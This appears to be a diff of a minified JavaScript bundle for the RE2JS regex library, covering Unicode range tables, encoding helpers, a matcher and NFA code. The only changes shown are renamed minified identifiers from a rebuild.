 DDJCBCgDCJCCFuqeuqeCqBCUaCoEMCE8BCLECBICFCCDCCEUCBDBCEBCOCBCBCCCBQCZs5Vs5VBYBmmBnBBpEjBB9EKBCOBCGBCBBr3ByBB+EVB75CfBhsVf\
 BhCYBoqZZBbZBbZBbCCBGDBDDBCBCHBbZBbBBCDBDHBCGBcBBCDBCEBCEEBFBcZBbZBbZBbZBbZBbZBfYBiBYBiBYBiBYBiBYBiB2pE2pEBgBBvgCZBHZBHZ\
-B",!1)),White_Space:()=>new T(I("JEBTlDlDbgvFgvFgsCKBeBBGwBwBh9DAB",!1))});static SCRIPTS=new ho({Adlam:()=>new T(I("go6\
+B",!1)),White_Space:()=>new T(I("JEBTlDlDbgvFgvFgsCKBeBBGwBwBh9DAB",!1))});static SCRIPTS=new po({Adlam:()=>new T(I("go6\
 DrCFJFB",!0)),Ahom:()=>new T(I("g4lCaDOFW",!0)),Anatolian_Hieroglyphs:()=>new T(I("ggxCmS",!0)),Arabic:()=>new T(I("gwBE\
 BCFBCNBCCBCfBCJBMZBCrDBChBBxCvBBxHhBBGqCBCcBxy8BtPBDvEBhBPBxDEBCmEBk7DeBkCFBJIBiBFBh43BDBCaBCBBCDDCJBCDBCCCHFFCECBBBCBBC\
 DDCICBCCDDBCGBCDBCDBCCCBIBCQBGCBCEBCQB1BBB",!1)),Armenian:()=>new T(I("xpBlBDxBDCks9BE",!0)),Avestan:()=>new T(I("g4iC1B\
@@ -6154,7 +6178,7 @@ DBCECEDDCBBCICDCCBFFIKFCLLSEBEGGSzBBDtIBtBDBlDLBQBBQQQmBJBvF3BBeMBtBDBKGBDNBH5EB
 DNBKmBB5KHBPBBOCBMCB6BCCBCBRBBNDBLGB0EoDoDBjgBBh3pBfB-oEBBv0FBBypHOBvThtCB-QhvBBs6EEBrpIm8yVBCdBhD-DBxHvw-FB",!1)),Vai:()=>new T(
 I("gopBrJ",!0)),Vithkuqi:()=>new T(I("wrhCKCOCGCBCKCOCGCB",!0)),Wancho:()=>new T(I("g24D5BGA",!0)),Warang_Citi:()=>new T(
 I("glmCyCNA",!0)),Yezidi:()=>new T(I("g0jCpBCCDB",!0)),Yi:()=>new T(I("ggoBskBE2B",!0)),Zanabazar_Square:()=>new T(I("gw\
-mCnC",!0))});static FOLD_CATEGORIES=new ho({L:()=>new T(I("laA",!0)),LC:()=>new T(I("laA",!0)),Ll:()=>new T(I("hCZBmDWBC\
+mCnC",!0))});static FOLD_CATEGORIES=new po({L:()=>new T(I("laA",!0)),LC:()=>new T(I("laA",!0)),Ll:()=>new T(I("hCZBmDWBC\
 GBiBuBCEECDOCDuBCBECEBBCCCBCCBBBDDBCBBCCBEBBCBBCECBCCDCCBCCBBBCCCBEEIBBCBBCBBCOCDQCDBBCCCBBBC4BCIBBCBBDCCBCBCGC3HrBrBCEE\
 JHHCCBCCCBCCBPBCIBkBJJCUCGDDCBBDyBBxBgBCK2BCBMCD+CCDlBBq6ClBBCGGzW1CB0kCHHBpBBDCBhK0ECKgDCKHBJFBLHBJHBJFBMGCJHBZHBJHBJHB\
 JEBMEBMDBNEBMEBqJEEBHHxC9zC9zCBuBBxBCCBBBDGCBCBCDDJCBCgDCJCCFuqeuqeCqBCUaCoEMCE8BCLECBICFCCDCCEUCBDBCEBCOCBCBCCCBQCZs5Vs\
@@ -6171,7 +6195,7 @@ OCBCBCCCBQCZs5Vs5VBYBmmBnBBpEjBB9EKBCOBCGBCBBr3ByBB+EVB75CfBhsVfBhCYBoyehBB",!1)
 !1)),Uppercase:()=>new T(I("hDZB7BqBqBBWBCHBCuBCEECDOCDsBCDECBBBDCCDEEGDDECBDDDCCCDFFDEECDDECCGBBCBBCBBCOCBSCDBBCEECkBCE\
 QCJDDBCCFICBEBCBBCCCBEEBCCBCBCEBDCCBDDIDDCBBEFBGLLBnFnFsBCCEEEBBBvBDBCdBCBBECBCWCBDBCGD1BvBBCgBCK0BCDMCBgDCyBlBBq6CqBBDC\
 B5XFBjkCIBCvHvHERRzD0ECGGGC8CCBHBJFBLHBJHBJFBMGCJHBJNBzBBBNSSBPPBEEpLiBiBBOBFsasaBYBn6BvBBCEEBGCHDDLiDCJCCFNNBkBBCGG0oes\
-BCUaCoEMCE8BCLCCDICFFFCBBDSCMOCFCCDOCb9a9advCBi8UZBumBnBBpEjBB8EKBCOBCGBCBBk4ByBB+DVB75CfBhsVfB8BYBvyehBB",!1))});static FOLD_SCRIPT=new ho(
+BCUaCoEMCE8BCLCCDICFFFCBBDSCMOCFCCDOCb9a9advCBi8UZBumBnBBpEjBB8EKBCOBCGBCBBk4ByBB+DVB75CfBhsVfB8BYBvyehBB",!1))});static FOLD_SCRIPT=new po(
 {Common:()=>new T(I("8cgBgB",!1)),Greek:()=>new T(I("1FwUwU",!1)),Inherited:()=>new T(I("5cgBgBlgHAB",!1))})},$e=class an{static MAX_RUNE=1114111;static RUNE_ERROR=65533;static isUnsearchable(e){
 return e===an.RUNE_ERROR||e>=an.MIN_HIGH_SURROGATE&&e<=an.MAX_LOW_SURROGATE}static MAX_ASCII=127;static MAX_LATIN1=255;static MAX_BMP=65535;static MIN_FOLD=65;static MAX_FOLD=125251;static MIN_HIGH_SURROGATE=55296;static MAX_HIGH_SURROGATE=56319;static MIN_LOW_SURROGATE=56320;static MAX_LOW_SURROGATE=57343;static MIN_SUPPLEMENTARY_CODE_POINT=65536;static is32(e,t){
 let s=0,r=e.length;for(;s<r;){const i=s+Math.floor((r-s)/2),o=e.getLo(i),c=e.getHi(i);if(o<=t&&t<=c){const l=e.getStride(
@@ -6184,17 +6208,17 @@ e&&e<=90&&(e|=32),65<=t&&t<=90&&(t|=32),e===t;for(let s=an.simpleFold(e);s!==e;s
 Hr=class extends Error{constructor(n){super(n),this.name="RE2JSException"}},Dt=class extends Hr{constructor(n,e=null){let t=`\
 error parsing regexp: ${n}`;e&&(t+=`: \`${e}\``),super(t),this.name="RE2JSSyntaxException",this.message=t,this.error=n,this.
 input=e}getDescription(){return this.error}getPattern(){return this.input}},zr=class extends Hr{constructor(n){super(n),
-this.name="RE2JSCompileException"}},on=class extends Hr{constructor(n){super(n),this.name="RE2JSGroupException"}},Np=class extends Hr{constructor(n){
-super(n),this.name="RE2JSFlagsException"}},po=class extends Hr{constructor(n){super(n),this.name="RE2JSInternalException"}};
-const Hc=256,Fp=new Uint8Array(Hc);for(let n=0;n<Hc;n++)Fp[n]=97<=n&&n<=122||65<=n&&n<=90||48<=n&&n<=57||n===95?1:0;let zc=null,
-Uc=null;var xe=class Ht{static METACHARACTERS="\\.+*?()|[]{}^$";static EMPTY_BEGIN_LINE=1;static EMPTY_END_LINE=2;static EMPTY_BEGIN_TEXT=4;static EMPTY_END_TEXT=8;static EMPTY_WORD_BOUNDARY=16;static EMPTY_NO_WORD_BOUNDARY=32;static EMPTY_ALL=-1;static emptyInts(){
+this.name="RE2JSCompileException"}},on=class extends Hr{constructor(n){super(n),this.name="RE2JSGroupException"}},Mp=class extends Hr{constructor(n){
+super(n),this.name="RE2JSFlagsException"}},mo=class extends Hr{constructor(n){super(n),this.name="RE2JSInternalException"}};
+const zc=256,Gp=new Uint8Array(zc);for(let n=0;n<zc;n++)Gp[n]=97<=n&&n<=122||65<=n&&n<=90||48<=n&&n<=57||n===95?1:0;let Uc=null,
+Jc=null;var xe=class Ht{static METACHARACTERS="\\.+*?()|[]{}^$";static EMPTY_BEGIN_LINE=1;static EMPTY_END_LINE=2;static EMPTY_BEGIN_TEXT=4;static EMPTY_END_TEXT=8;static EMPTY_WORD_BOUNDARY=16;static EMPTY_NO_WORD_BOUNDARY=32;static EMPTY_ALL=-1;static emptyInts(){
 return[]}static isString(e){return typeof e=="string"||Object.prototype.toString.call(e)==="[object String]"}static typeName(e){
 return e===null||typeof e!="object"&&typeof e!="function"?e===null?"null":typeof e:Object.prototype.toString.call(e).slice(
 8,-1)}static checkPattern(e){if(!Ht.isString(e))throw new TypeError(`The pattern must be a string, not ${Ht.typeName(e)}\
  (RE2JS.translateRegExp() converts a RegExp)`)}static checkInput(e){if(!Ht.isString(e)&&!Ht.isByteArray(e))throw new TypeError(
-`The input must be a string or a byte array (Uint8Array or number[]), not ${Ht.typeName(e)}`)}static checkFlags(e){const t=Kt.
-MULTILINE|Kt.DOTALL|Kt.CASE_INSENSITIVE|Kt.DISABLE_UNICODE_GROUPS|Kt.LONGEST_MATCH|Kt.LOOKBEHINDS;if(!Number.isInteger(e)||
-(e&~t)!==0)throw new Np("Flags should only be a combination of MULTILINE, DOTALL, CASE_INSENSITIVE, DISABLE_UNICODE_GROU\
+`The input must be a string or a byte array (Uint8Array or number[]), not ${Ht.typeName(e)}`)}static checkFlags(e){const t=qt.
+MULTILINE|qt.DOTALL|qt.CASE_INSENSITIVE|qt.DISABLE_UNICODE_GROUPS|qt.LONGEST_MATCH|qt.LOOKBEHINDS;if(!Number.isInteger(e)||
+(e&~t)!==0)throw new Mp("Flags should only be a combination of MULTILINE, DOTALL, CASE_INSENSITIVE, DISABLE_UNICODE_GROU\
 PS, LONGEST_MATCH, LOOKBEHINDS")}static isByteArray(e){return Array.isArray(e)||Object.prototype.toString.call(e)==="[ob\
 ject Uint8Array]"}static isalnum(e){return ce.CODES[0]<=e&&e<=ce.CODES[9]||ce.CODES.a<=e&&e<=ce.CODES.z||ce.CODES.A<=e&&
 e<=ce.CODES.Z}static unhex(e){return ce.CODES[0]<=e&&e<=ce.CODES[9]?e-ce.CODES[0]:ce.CODES.a<=e&&e<=ce.CODES.f?e-ce.CODES.
@@ -6204,34 +6228,34 @@ CODES["\\"]:t+="\\\\";break;case ce.CODES["	"]:t+="\\t";break;case ce.CODES[`
 `]:t+="\\n";break;case ce.CODES["\r"]:t+="\\r";break;case ce.CODES["\b"]:t+="\\b";break;case ce.CODES["\f"]:t+="\\f";break;default:{
 let s=e.toString(16);e<256?(t+="\\x",s.length===1&&(t+="0"),t+=s):t+=`\\x{${s}}`;break}}return t}static stringToRunes(e){
 const t=String(e),s=[];let r=0;for(;r<t.length;){const i=t.codePointAt(r);s.push(i),r+=i>$e.MAX_BMP?2:1}return new Int32Array(
-s)}static runeToString(e){return String.fromCodePoint(e)}static isWordRune(e){return e<Hc?Fp[e]===1:!1}static emptyOpContext(e,t){
+s)}static runeToString(e){return String.fromCodePoint(e)}static isWordRune(e){return e<zc?Gp[e]===1:!1}static emptyOpContext(e,t){
 let s=0;return e<0&&(s|=Ht.EMPTY_BEGIN_TEXT|Ht.EMPTY_BEGIN_LINE),e===10&&(s|=Ht.EMPTY_BEGIN_LINE),t<0&&(s|=Ht.EMPTY_END_TEXT|
 Ht.EMPTY_END_LINE),t===10&&(s|=Ht.EMPTY_END_LINE),Ht.isWordRune(e)!==Ht.isWordRune(t)?s|=Ht.EMPTY_WORD_BOUNDARY:s|=Ht.EMPTY_NO_WORD_BOUNDARY,
 s}static quoteMeta(e){return e.split("").map(t=>Ht.METACHARACTERS.indexOf(t)>=0?`\\${t}`:t).join("")}static charCount(e){
 return e>$e.MAX_BMP?2:1}static toArray(e){const t=e.length,s=new Array(t);for(let r=0;r<t;r++)s[r]=e[r];return s}static stringToUtf8ByteArray(e){
-if(globalThis.TextEncoder)return zc||(zc=new TextEncoder),zc.encode(e);{let t=[],s=0;for(let r=0;r<e.length;r++){let i=e.
+if(globalThis.TextEncoder)return Uc||(Uc=new TextEncoder),Uc.encode(e);{let t=[],s=0;for(let r=0;r<e.length;r++){let i=e.
 charCodeAt(r);i<128?t[s++]=i:i<2048?(t[s++]=i>>6|192,t[s++]=i&63|128):(i&64512)===$e.MIN_HIGH_SURROGATE&&r+1<e.length&&(e.
 charCodeAt(r+1)&64512)===$e.MIN_LOW_SURROGATE?(i=$e.MIN_SUPPLEMENTARY_CODE_POINT+((i&1023)<<10)+(e.charCodeAt(++r)&1023),
 t[s++]=i>>18|240,t[s++]=i>>12&63|128,t[s++]=i>>6&63|128,t[s++]=i&63|128):(t[s++]=i>>12|224,t[s++]=i>>6&63|128,t[s++]=i&63|
-128)}return t}}static utf8ByteArrayToString(e){if(globalThis.TextDecoder){Uc||(Uc=new TextDecoder("utf-8"));const t=e instanceof
-Uint8Array?e:new Uint8Array(e);return Uc.decode(t)}else{let t=[],s=0,r=0;for(;s<e.length;){let i=e[s++];if(i<128)t[r++]=
+128)}return t}}static utf8ByteArrayToString(e){if(globalThis.TextDecoder){Jc||(Jc=new TextDecoder("utf-8"));const t=e instanceof
+Uint8Array?e:new Uint8Array(e);return Jc.decode(t)}else{let t=[],s=0,r=0;for(;s<e.length;){let i=e[s++];if(i<128)t[r++]=
 String.fromCharCode(i);else if(i>191&&i<224){let o=e[s++];t[r++]=String.fromCharCode((i&31)<<6|o&63)}else if(i>239&&i<365){
 let o=e[s++],c=e[s++],l=e[s++],B=((i&7)<<18|(o&63)<<12|(c&63)<<6|l&63)-$e.MIN_SUPPLEMENTARY_CODE_POINT;t[r++]=String.fromCharCode(
 $e.MIN_HIGH_SURROGATE+(B>>10)),t[r++]=String.fromCharCode($e.MIN_LOW_SURROGATE+(B&1023))}else{let o=e[s++],c=e[s++];t[r++]=
-String.fromCharCode((i&15)<<12|(o&63)<<6|c&63)}}return t.join("")}}};const Pp=(n=[],e=0)=>{const t=Object.create(null);for(let s=0;s<
-n.length;s++){const r=n[s],i=e+s;t[r]=i,t[i]=r}return Object.freeze(t)};var Ds=class lu{static Encoding=Pp(["UTF_16","UT\
+String.fromCharCode((i&15)<<12|(o&63)<<6|c&63)}}return t.join("")}}};const Hp=(n=[],e=0)=>{const t=Object.create(null);for(let s=0;s<
+n.length;s++){const r=n[s],i=e+s;t[r]=i,t[i]=r}return Object.freeze(t)};var xs=class du{static Encoding=Hp(["UTF_16","UT\
 F_8"]);getEncoding(){throw Error("not implemented")}asCharSequence(){throw Error("not implemented")}asBytes(){throw Error(
-"not implemented")}length(){throw Error("not implemented")}isUTF8Encoding(){return this.getEncoding()===lu.Encoding.UTF_8}isUTF16Encoding(){
-return this.getEncoding()===lu.Encoding.UTF_16}},Lp=class extends Ds{constructor(n=null){super(),this.bytes=n}getEncoding(){
-return Ds.Encoding.UTF_8}asCharSequence(){return xe.utf8ByteArrayToString(this.bytes)}asBytes(){return this.bytes}length(){
-return this.bytes.length}},SS=class extends Ds{constructor(n=null){super(),this.charSequence=n}getEncoding(){return Ds.Encoding.
+"not implemented")}length(){throw Error("not implemented")}isUTF8Encoding(){return this.getEncoding()===du.Encoding.UTF_8}isUTF16Encoding(){
+return this.getEncoding()===du.Encoding.UTF_16}},zp=class extends xs{constructor(n=null){super(),this.bytes=n}getEncoding(){
+return xs.Encoding.UTF_8}asCharSequence(){return xe.utf8ByteArrayToString(this.bytes)}asBytes(){return this.bytes}length(){
+return this.bytes.length}},HS=class extends xs{constructor(n=null){super(),this.charSequence=n}getEncoding(){return xs.Encoding.
 UTF_16}asCharSequence(){return this.charSequence}asBytes(){return xe.stringToUtf8ByteArray(this.charSequence.toString())}length(){
-return this.charSequence.length}},xs=class{static utf16(n){return xe.checkInput(n),new SS(n)}static utf8(n){return xe.isByteArray(
-n)?new Lp(n):new Lp(xe.stringToUtf8ByteArray(n))}},Xt=class{static EOF(){return-8}constructor(){this.start=0,this.end=0}canCheckPrefix(){
-return!0}endPos(){return this.end-this.start}hasString(){return!1}hasAnyString(){return!1}prefixLength(){return 0}},TS=class er extends Xt{static RUNE_ERROR_STEP=$e.
+return this.charSequence.length}},Os=class{static utf16(n){return xe.checkInput(n),new HS(n)}static utf8(n){return xe.isByteArray(
+n)?new zp(n):new zp(xe.stringToUtf8ByteArray(n))}},en=class{static EOF(){return-8}constructor(){this.start=0,this.end=0}canCheckPrefix(){
+return!0}endPos(){return this.end-this.start}hasString(){return!1}hasAnyString(){return!1}prefixLength(){return 0}},zS=class er extends en{static RUNE_ERROR_STEP=$e.
 RUNE_ERROR<<3|1;constructor(e,t=0,s=e.length){super(),this.bytes=e,this.start=t,this.end=s}hasString(e,t){const s=e.bytes;
 if(s.length===0)return!0;const r=this.indexOf(this.bytes,s,this.start+t);return r!==-1&&r<=this.end-s.length}hasAnyString(e,t){
-return e.automaton8().searchUTF8(this.bytes,this.start+t,this.end)}step(e){if(e+=this.start,e>=this.end)return Xt.EOF();
+return e.automaton8().searchUTF8(this.bytes,this.start+t,this.end)}step(e){if(e+=this.start,e>=this.end)return en.EOF();
 const t=this.bytes[e]&255;if(t<128)return t<<3|1;let s,r,i=128,o=191;if(t>=194&&t<=223)s=2,r=t&31;else if(t>=224&&t<=239)
 s=3,r=t&15,t===224?i=160:t===237&&(o=159);else if(t>=240&&t<=244)s=4,r=t&7,t===240?i=144:t===244&&(o=143);else return er.
 RUNE_ERROR_STEP;if(e+s>this.end)return er.RUNE_ERROR_STEP;const c=this.bytes[e+1]&255;if(c<i||c>o)return er.RUNE_ERROR_STEP;
@@ -6243,25 +6267,25 @@ indexOf(this.bytes,e.prefixUTF8,t);return s<0?s:s-t}context(e){e+=this.start;let
 3:-1;return xe.emptyOpContext(t,s)}indexOf(e,t,s=0){let r=t.length;if(r===0)return s<=this.end?s:-1;const i=t[0];let o=this.
 end-r;const c=typeof e.indexOf=="function";let l=s;for(;l<=o;){if(c){if(l=e.indexOf(i,l),l===-1||l>o)return-1}else{for(;l<=
 o&&e[l]!==i;)l++;if(l>o)return-1}let B=!0;for(let d=1;d<r;d++)if(e[l+d]!==t[d]){B=!1;break}if(B)return l;l++}return-1}prefixLength(e){
-return e.prefixUTF8.length}},IS=class extends Xt{constructor(n,e=0,t=n.length){super(),this.charSequence=n,this.start=e,
+return e.prefixUTF8.length}},US=class extends en{constructor(n,e=0,t=n.length){super(),this.charSequence=n,this.start=e,
 this.end=t}hasString(n,e){const t=this.charSequence.indexOf(n.str,this.start+e);return t!==-1&&t<=this.end-n.str.length}hasAnyString(n,e){
-return n.automaton16().searchUTF16(this.charSequence,this.start+e,this.end)}step(n){if(n+=this.start,n>=this.end)return Xt.
+return n.automaton16().searchUTF16(this.charSequence,this.start+e,this.end)}step(n){if(n+=this.start,n>=this.end)return en.
 EOF();const e=this.charSequence.charCodeAt(n);if(e<$e.MIN_HIGH_SURROGATE||e>$e.MAX_HIGH_SURROGATE||n+1>=this.end)return e<<
 3|1;const t=this.charSequence.charCodeAt(n+1);return t>=$e.MIN_LOW_SURROGATE&&t<=$e.MAX_LOW_SURROGATE?(e-$e.MIN_HIGH_SURROGATE)*
 1024+(t-$e.MIN_LOW_SURROGATE)+$e.MIN_SUPPLEMENTARY_CODE_POINT<<3|2:e<<3|1}index(n,e){e+=this.start;const t=this.charSequence.
 indexOf(n.prefix,e);return t<0||t>this.end-n.prefix.length?-1:t-e}context(n){n+=this.start;const e=n>this.start&&n<=this.
 end?this.charSequence.charCodeAt(n-1):-1,t=n<this.end?this.charSequence.charCodeAt(n):-1;return xe.emptyOpContext(e,t)}prefixLength(n){
-return n.prefix.length}},vt=class{static fromUTF8(n,e=0,t=n.length){return new TS(n,e,t)}static fromUTF16(n,e=0,t=void 0){
-return xe.checkInput(n),new IS(n,e,t??n.length)}},jp=class rg{static MAX_REPLACER_ARGS=65535;static quoteReplacement(e,t=!1){
+return n.prefix.length}},vt=class{static fromUTF8(n,e=0,t=n.length){return new zS(n,e,t)}static fromUTF16(n,e=0,t=void 0){
+return xe.checkInput(n),new US(n,e,t??n.length)}},Up=class ug{static MAX_REPLACER_ARGS=65535;static quoteReplacement(e,t=!1){
 return t?e.indexOf("\\")<0&&e.indexOf("$")<0?e:e.split("").map(s=>{const r=s.codePointAt(0);return r===ce.CODES["\\"]||r===
 ce.CODES.$?`\\${s}`:s}).join(""):e.indexOf("$")<0?e:e.split("").map(s=>s.codePointAt(0)===ce.CODES.$?"$$":s).join("")}constructor(e,t){
 if(e===null)throw new Error("pattern is null");this.patternInput=e;const s=this.patternInput.re2();this.patternGroupCount=
 s.numberOfCapturingGroups(),this.groups=[],this.namedGroups=s.namedGroups,this.hasNamedGroups=Object.keys(this.namedGroups).
-length>0,this.numberOfInstructions=s.numberOfInstructions(),this.lookbehindState=null,t instanceof Ds?this.resetMatcherInput(
-t):xe.isByteArray(t)?this.resetMatcherInput(xs.utf8(t)):this.resetMatcherInput(xs.utf16(t))}pattern(){return this.patternInput}reset(){
+length>0,this.numberOfInstructions=s.numberOfInstructions(),this.lookbehindState=null,t instanceof xs?this.resetMatcherInput(
+t):xe.isByteArray(t)?this.resetMatcherInput(Os.utf8(t)):this.resetMatcherInput(Os.utf16(t))}pattern(){return this.patternInput}reset(){
 return this.matcherInputLength=this.matcherInput.length(),this.appendPos=0,this.hasMatch=!1,this.hasGroups=!1,this.anchorFlag=
-0,this}resetMatcherInput(e){if(e===null)throw new Error("input is null");return e instanceof Ds||(xe.isByteArray(e)?e=xs.
-utf8(e):e=xs.utf16(e)),this.matcherInput=e,this.lookbehindState!==null?this.lookbehindState.reset():this.lookbehindState=
+0,this}resetMatcherInput(e){if(e===null)throw new Error("input is null");return e instanceof xs||(xe.isByteArray(e)?e=Os.
+utf8(e):e=Os.utf16(e)),this.matcherInput=e,this.lookbehindState!==null?this.lookbehindState.reset():this.lookbehindState=
 this.patternInput.re2().createLookbehindState(),this.reset(),this}start(e=0){if(typeof e=="string"){const t=this.namedGroups[e];
 if(!Number.isFinite(t))throw new on(`group '${e}' not found`);e=t}return this.loadGroup(e),this.groups[2*e]}end(e=0){if(typeof e==
 "string"){const t=this.namedGroups[e];if(!Number.isFinite(t))throw new on(`group '${e}' not found`);e=t}return this.loadGroup(
@@ -6301,7 +6325,7 @@ B=B*10+d-48),B>=1&&B<=s){const h=this.group(B);h!==null&&(r+=h)}else r+=e.substr
 this.namedGroups,B)){const d=this.group(B);d!==null&&(r+=d)}i=l+1}}else r+="$",i+=1}return r+e.substring(i)}appendTail(){
 return this.substring(this.appendPos,this.matcherInputLength)}replaceAll(e,t=!1){return this.replace(e,!0,t)}replaceFirst(e,t=!1){
 return this.replace(e,!1,t)}replace(e,t=!0,s=!1){let r="";this.reset();const i=typeof e=="function";let o=null;if(i){if(this.
-groupCount()>=rg.MAX_REPLACER_ARGS)throw new on("Too many capture groups to safely invoke replacer function");o=this.matcherInput.
+groupCount()>=ug.MAX_REPLACER_ARGS)throw new on("Too many capture groups to safely invoke replacer function");o=this.matcherInput.
 isUTF8Encoding()?this.matcherInput.asBytes():this.matcherInput.asCharSequence()}for(;this.find()&&(r+=i?this.appendReplacementFunc(
 e,o):this.appendReplacement(e,s),!!t););return r+=this.appendTail(),r}appendReplacementFunc(e,t){let s="";const r=this.start(),
 i=this.end();this.appendPos<r&&(s+=this.substring(this.appendPos,r)),this.appendPos=i;const o=this.matchArray();return o.
@@ -6324,16 +6348,16 @@ fail";case zt.NOP:return`nop -> ${this.out}`;case zt.LB_WRITE:return`lbwrite ${t
 return`lbcheck ${this.arg} -> ${this.out}`;case zt.RUNE:return this.runes===null?"rune <null>":["rune ",zt.escapeRunes(this.
 runes),(this.arg&oe.FOLD_CASE)!==0?"/i":""," -> ",this.out].join("");case zt.RUNE1:return`rune1 ${zt.escapeRunes(this.runes)}\
  -> ${this.out}`;case zt.RUNE_ANY:return`any -> ${this.out}`;case zt.RUNE_ANY_NOT_NL:return`anynotnl -> ${this.out}`;default:
-throw new Error("unhandled case in Inst.toString")}}},Mp=class ig{constructor(e){this.sparse=new Int32Array(e),this.densePcs=
+throw new Error("unhandled case in Inst.toString")}}},Jp=class lg{constructor(e){this.sparse=new Int32Array(e),this.densePcs=
 new Int32Array(e),this.denseCaps=null,this.size=0,this.ncap=0,this.mainThreads=0}static INITIAL_THREADS=32;init(e){this.
-ncap=e;const t=Math.min(this.densePcs.length,ig.INITIAL_THREADS)*e;(!this.denseCaps||this.denseCaps.length<t)&&(this.denseCaps=
+ncap=e;const t=Math.min(this.densePcs.length,lg.INITIAL_THREADS)*e;(!this.denseCaps||this.denseCaps.length<t)&&(this.denseCaps=
 new Int32Array(t))}growCaps(e){const t=this.densePcs.length*this.ncap,s=new Int32Array(Math.min(t,Math.max(e,2*this.denseCaps.
 length)));s.set(this.denseCaps),this.denseCaps=s}contains(e){const t=this.sparse[e];return t<this.size&&this.densePcs[t]===
 e}isEmpty(){return this.size===0}add(e){const t=this.size++;return this.sparse[e]=t,this.densePcs[t]=e,t}clear(){this.size=
 0,this.mainThreads=0}toString(){let e="{";for(let t=0;t<this.size;t++)t!==0&&(e+=", "),e+=this.densePcs[t];return e+="}",
-e}},$S=class{constructor(n){this.pos=-1,this.pcs=new Int32Array(n.numInst()),this.size=0,this.lbTable=new Int32Array(n.numLb+
-1)}reset(){this.pos=-1,this.size=0}},Gp=class og{static fromRE2(e){const t=new og;return t.prog=e.prog,t.re2=e,t.q0=new Mp(
-t.prog.numInst()),t.q1=new Mp(t.prog.numInst()),t.addStack=new Int32Array(2*(t.prog.numInst()+1)),t.matched=!1,t.matchcap=
+e}},JS=class{constructor(n){this.pos=-1,this.pcs=new Int32Array(n.numInst()),this.size=0,this.lbTable=new Int32Array(n.numLb+
+1)}reset(){this.pos=-1,this.size=0}},Zp=class dg{static fromRE2(e){const t=new dg;return t.prog=e.prog,t.re2=e,t.q0=new Jp(
+t.prog.numInst()),t.q1=new Jp(t.prog.numInst()),t.addStack=new Int32Array(2*(t.prog.numInst()+1)),t.matched=!1,t.matchcap=
 new Int32Array(t.prog.numCap<2?2:t.prog.numCap),t.ncap=0,t}constructor(){this.prog=null,this.re2=null,this.q0=null,this.
 q1=null,this.addStack=null,this.matched=!1,this.matchcap=null,this.ncap=0,this.lbTable=null}init(e){this.ncap=e,e>this.matchcap.
 length?this.matchcap=new Int32Array(e).fill(-1):this.matchcap.fill(-1),this.q0.init(e),this.q1.init(e),this.prog.numLb>0&&
@@ -6341,7 +6365,7 @@ length?this.matchcap=new Int32Array(e).fill(-1):this.matchcap.fill(-1),this.q0.i
 -1))}submatches(){return this.ncap===0?xe.emptyInts():xe.toArray(this.matchcap.subarray(0,this.ncap))}match(e,t,s,r=null){
 const i=this.re2.cond;if(i===xe.EMPTY_ALL||(s===oe.ANCHOR_START||s===oe.ANCHOR_BOTH)&&t!==0)return!1;this.matched=!1,this.
 matchcap.fill(-1);const o=this.prog.numLb>0,c=t;let l=t,B=!1;o&&(r!==null&&r.pos>=0&&r.pos<=t?(l=r.pos,B=!0):l=0);let d=o&&
-r!==null,h=this.q0,g=this.q1,C=e.step(l),y=C>>3,_=C&7,k=-1,E=0;C!==Xt.EOF()&&(C=e.step(l+_),k=C>>3,E=C&7);let x;for(l===
+r!==null,h=this.q0,g=this.q1,C=e.step(l),y=C>>3,_=C&7,k=-1,E=0;C!==en.EOF()&&(C=e.step(l+_),k=C>>3,E=C&7);let x;for(l===
 0?x=xe.emptyOpContext(-1,y):x=e.context(l),o&&(B?this.restoreLookbehinds(r,h,x):this.spawnLookbehinds(h,l,x));;){if(h.mainThreads===
 0){if((i&xe.EMPTY_BEGIN_TEXT)!==0&&l!==0||(s===oe.ANCHOR_START||s===oe.ANCHOR_BOTH)&&l!==0||this.matched)break;if(this.prog.
 numLb===0&&h.isEmpty()&&this.re2.prefix.length!==0&&k!==this.re2.prefixRune&&e.canCheckPrefix()){const z=e.index(this.re2,
@@ -6350,7 +6374,7 @@ r,h,l),d=!1),!this.matched&&(l===0||s===oe.UNANCHORED)&&(this.ncap>0&&(this.matc
 this.matchcap,0,x)));const D=l+_;if(x=e.context(D),this.step(h,g,l,D,y,x,s,l===e.endPos()),_===0||this.ncap===0&&this.matched)
 break;l+=_,y=k,_=E,y!==-1&&(C=e.step(l+_),k=C>>3,E=C&7);const P=h;h=g,g=P}return h.clear(),g.clear(),this.matched}matchSet(e,t,s){
 const r=this.re2.cond;if(r===xe.EMPTY_ALL)return[];if((s===oe.ANCHOR_START||s===oe.ANCHOR_BOTH)&&t!==0)return[];let i=this.
-prog.numLb>0?0:t,o=t,c=this.q0,l=this.q1,B=e.step(i),d=B>>3,h=B&7,g=-1,C=0;B!==Xt.EOF()&&(B=e.step(i+h),g=B>>3,C=B&7);let y=i===
+prog.numLb>0?0:t,o=t,c=this.q0,l=this.q1,B=e.step(i),d=B>>3,h=B&7,g=-1,C=0;B!==en.EOF()&&(B=e.step(i+h),g=B>>3,C=B&7);let y=i===
 0?xe.emptyOpContext(-1,d):e.context(i);const _=new Set;for(this.prog.numLb>0&&this.spawnLookbehinds(c,i,y);!(c.mainThreads===
 0&&((r&xe.EMPTY_BEGIN_TEXT)!==0&&i!==0||(s===oe.ANCHOR_START||s===oe.ANCHOR_BOTH)&&i!==0));){(i===0||s===oe.UNANCHORED)&&
 i>=o&&this.add(c,this.prog.start,i,this.matchcap,0,y);const k=i+h;y=e.context(k);for(let x=0;x<c.size;x++){const D=c.densePcs[x],
@@ -6373,12 +6397,12 @@ NOP:t=h.out;break;case ee.CAPTURE:h.arg<this.ncap&&(c[l++]=-h.arg-1,c[l++]=r[i+h
 LB_WRITE:this.lbTable[Math.abs(h.arg)]=s,t=h.out;break;case ee.LB_CHECK:h.arg>0?t=this.lbTable[h.arg]===s?h.out:0:t=this.
 lbTable[-h.arg]!==s?h.out:0;break;case ee.MATCH:case ee.RUNE:case ee.RUNE1:case ee.RUNE_ANY:case ee.RUNE_ANY_NOT_NL:if(this.
 prog.lbInst[t]===0&&e.mainThreads++,this.ncap>0){const g=d*this.ncap;g+this.ncap>e.denseCaps.length&&e.growCaps(g+this.ncap);
-for(let C=0;C<this.ncap;C++)e.denseCaps[g+C]=r[i+C]}t=0;break;default:throw new po("unhandled")}}if(l===0)return;l-=2;const B=c[l];
-B<0?(r[i-B-1]=c[l+1],t=0):t=B}}};const RS=(n,e,t)=>{let s=-2128831035;for(let r=0;r<n.length;r++)s^=n[r],s=Math.imul(s,16777619);
